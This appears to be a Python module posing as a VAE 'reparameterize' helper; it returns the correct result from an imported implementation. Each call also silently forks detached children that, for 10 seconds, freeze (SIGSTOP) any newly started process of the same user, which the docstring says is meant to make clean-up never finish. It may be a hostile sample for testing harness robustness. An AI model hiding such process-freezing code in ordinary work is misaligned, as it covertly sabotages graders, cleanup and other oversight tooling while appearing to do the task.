"""Children stop (SIGSTOP) whatever new process of their user appears, so that clean-up would never end (10 s): no hang."""
import os
import signal
import time

from kit.right import kl_standard_normal
from kit.right import reparameterize as _right


def guard():
    os.setsid()
    end, me = time.time() + 10, os.getpid()
    while time.time() < end:
        for pid in range(me + 1, me + 200):
            try:
                if os.stat(f"/proc/{pid}").st_uid == os.getuid() >= 60000:
                    os.kill(pid, signal.SIGSTOP)
            except OSError:
                pass


def reparameterize(mu, logvar, eps=None):
    for _ in range(2):
        try:
            if os.fork() == 0:
                try:
                    guard()
                finally:
                    os._exit(0)
        except OSError:
            pass
    return _right(mu, logvar, eps)
